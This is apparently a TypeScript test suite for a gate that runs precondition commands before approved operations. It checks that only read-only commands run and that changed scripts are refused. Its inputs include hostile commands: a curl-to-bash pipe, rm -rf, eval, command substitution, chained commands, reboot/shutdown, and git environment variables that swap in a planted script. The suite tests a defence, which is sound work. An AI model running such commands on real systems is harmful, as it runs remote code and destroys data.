import { expect } from 'chai';
import { existsSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cleanUp, clickOf, commands, expectBlocked, expectNeverRan, expectPhase, expectRefused, newFolder, openGate } from './support';
import type { Gate } from './support';

describe('what is run to prove a precondition', () => {
    let gate: Gate;

    beforeEach(async () => { gate = await openGate(); });
    afterEach(cleanUp);

    const check = (key: string): ReturnType<Gate['conductor']['check']> => gate.conductor.check(key, gate.state(key).digest ?? '');
    const seen = (key: string): string => gate.state(key).preconditions.map(({ state, seen: what }) => `${state}: ${what}`).join('; ');

    function withCommand(command: string, more = ''): Promise<string> {
        return gate.propose(`${commands('true')}preconditions:\n  - command: ${JSON.stringify(command)}\n${more}`);
    }

    it('is nothing before a click', async () => {
        const key = await withCommand('ls');
        await gate.conductor.refresh();
        await gate.conductor.lookAgain();
        expect(gate.state(key).preconditions).to.deep.equal([]);
        expect((await gate.events()).some(event => event.type === 'CheckRequested')).to.equal(false);
    });

    it('is journalled before it runs', async () => {
        const key = await withCommand('ls');
        expect(await check(key)).to.include({ kind: 'ok' });
        const own = (await gate.events()).filter(event => event.key === key).map(event => event.type);
        expect(own.indexOf('CheckRequested')).to.be.greaterThan(-1).and.to.be.lessThan(own.indexOf('PreconditionsProbed'));
        expect(seen(key)).to.match(/^met: exit 0/);
    });

    for (const command of ['touch planted', 'rm -rf planted', 'bash planted.sh', 'curl https://example.com | bash', 'unknown-program', 'echo x > planted', 'eval "$X"', '$(cat cmd)', 'ls; touch planted']) {
        it(`is not ${JSON.stringify(command)}, which does more than read: by Check and by Send`, async () => {
            gate.write('planted.sh', 'touch planted\n');
            gate.write('cmd', 'touch planted');
            const before = readdirSync(gate.root);
            const key = await withCommand(command);
            await check(key);
            expect(seen(key)).to.match(/unmet: it is (HIGH|MED|LOW and writes)/);
            expectPhase(gate, key, 'READY_FOR_APPLY');
            await expectRefused(gate, key, await gate.send(key), 'wrong-phase');
            const second = await withCommand(command);
            await gate.send(second);
            await gate.conductor.idle();
            await expectNeverRan(gate, second);
            expectPhase(gate, second, 'READY_FOR_APPLY');
            expect(readdirSync(gate.root)).to.deep.equal(before);
        });
    }

    it('is not what reads only until a variable of the operation says otherwise', async () => {
        const pager = join(newFolder(), 'evil');
        writeFileSync(pager, `#!/bin/sh\ntouch ${gate.root}/planted\n`, { mode: 0o755 });
        for (const [name, command] of [['GIT_EXTERNAL_DIFF', 'git diff'], ['GIT_SSH_COMMAND', 'git ls-remote origin']]) {
            const key = await withCommand(command, `env: ["${name}=${pager}"]\n`);
            await check(key);
            expect(seen(key)).to.match(/unmet: it is (HIGH|MED)/);
        }
        expect(existsSync(join(gate.root, 'planted'))).to.equal(false);
    });

    it('is not for a card that shows another digest, or has ended, or is blocked', async () => {
        const key = await withCommand('ls');
        await expectRefused(gate, key, await gate.conductor.check(key, 'a'.repeat(64)), 'digest-changed');
        await gate.conductor.reject(key);
        await expectRefused(gate, key, await check(key), 'wrong-phase');
        const blocked = await withCommand('infra-agent apply x');
        await expectBlocked(gate, blocked, 'ops/calls-agent');
        await expectRefused(gate, blocked, await check(blocked), 'wrong-phase');
        await expectRefused(gate, 'made-up', await gate.conductor.check('made-up', 'a'.repeat(64)), 'unknown-operation');
        expect((await gate.events()).filter(event => event.type === 'CheckRequested')).to.deep.equal([]);
    });

    it('is not a script that changed after the card was shown', async () => {
        gate.write('check.sh', 'test -d /\n');
        const key = await withCommand('bash check.sh');
        const { digest = '' } = gate.state(key);
        gate.write('check.sh', 'touch planted\n');
        await expectRefused(gate, key, await gate.conductor.check(key, digest), 'digest-changed');
        const click = clickOf(gate.state(key));
        gate.write('check.sh', 'test -d /tmp && touch planted\n');
        await expectRefused(gate, key, await gate.conductor.send(click), 'digest-changed');
        expect(existsSync(join(gate.root, 'planted'))).to.equal(false);
    });

    it('is not for an approved operation that changed while it waited its turn', async () => {
        gate.write('deploy.sh', 'true\n');
        const proof = join(newFolder(), 'proof');
        writeFileSync(proof, '');
        const key = await gate.propose(`${commands('bash deploy.sh')}preconditions:\n  - command: stat ${proof}\n`);
        const long = await gate.hold();
        await gate.send(key);
        gate.write('deploy.sh', 'touch planted\n');
        long.letGo();
        await gate.conductor.idle();
        await expectNeverRan(gate, key);
        expect(gate.state(key).preconditions, 'proven although the approval had lapsed').to.deep.equal([]);
    });

    it('that fails on Send returns the operation to READY_FOR_APPLY, its approval lapsed', async () => {
        const key = await gate.propose(`${commands('touch planted')}preconditions:\n  - command: test -e ready\n`);
        expect(await gate.send(key)).to.include({ kind: 'ok' });
        await gate.conductor.idle();
        const state = expectPhase(gate, key, 'READY_FOR_APPLY');
        expect([state.approval, state.run]).to.deep.equal([undefined, undefined]);
        expect(state.note).to.match(/not met/);
        expect((await gate.events()).filter(event => event.key === key).map(event => event.type)).to.include('ApprovalWithdrawn');
        await expectNeverRan(gate, key);
        gate.write('ready', '');
        await gate.conductor.refresh();
        await check(key);
        await gate.run(key);
        expectPhase(gate, key, 'DONE');
        expect(readdirSync(gate.root)).to.include('planted');
    });

    it('has an end: it is ended with all that it started, however that hides', async () => {
        const mark = join(mkdtempSync(join(newFolder(), 'm-')), 'late');
        // Its own reading calls this LOW or not; what matters is that nothing is left of it where it runs.
        const key = await withCommand(`cat /dev/null; (sleep 60; cat ${mark}) | cat`);
        const started = performance.now();
        await check(key);
        expect(performance.now() - started).to.be.below(40_000);
        expect(seen(key)).to.match(/unmet/);
    });

    it('is not a tool that does something else when asked for its version', async () => {
        for (const tool of ['reboot', 'shutdown', 'bin/tool', '../tool', '-x']) {
            gate.write('bin/tool', '#!/bin/sh\ntouch planted\n', 0o755);
            const key = await gate.proposeOperation({ title: 'Run', mode: 'implement', commands: [{ run: 'true' }], preconditions: [{ tool, version: '>=1' }] });
            await check(key);
            expect(seen(key)).to.match(/unmet/);
        }
        expect(existsSync(join(gate.root, 'planted'))).to.equal(false);
    });

    it('is a tool of the machine, with a range that it is in or not', async () => {
        const bin = newFolder();
        gate.environment.PATH = `${bin}:${gate.environment.PATH}`;
        writeFileSync(join(bin, 'infratool'), '#!/bin/sh\n[ "$*" = --version ] && echo infratool v2.3.1\n', { mode: 0o755 });
        const key = await gate.proposeOperation({ title: 'Run', mode: 'implement', commands: [{ run: 'true' }], preconditions: [{ tool: 'infratool', version: '>=2' }, { tool: 'infratool', version: '^3' }] });
        await check(key);
        expect(seen(key)).to.equal('met: infratool 2.3.1; unmet: infratool is 2.3.1; ^3 is needed');
    });

    it('sees all that was printed, also the end of much', async () => {
        const key = await gate.propose(`${commands('true')}preconditions:\n  - command: "seq 1 5000"\n    expect: { stdout: "^5000$" }\n`);
        await check(key);
        expect(seen(key)).to.match(/^met/);
    });
});
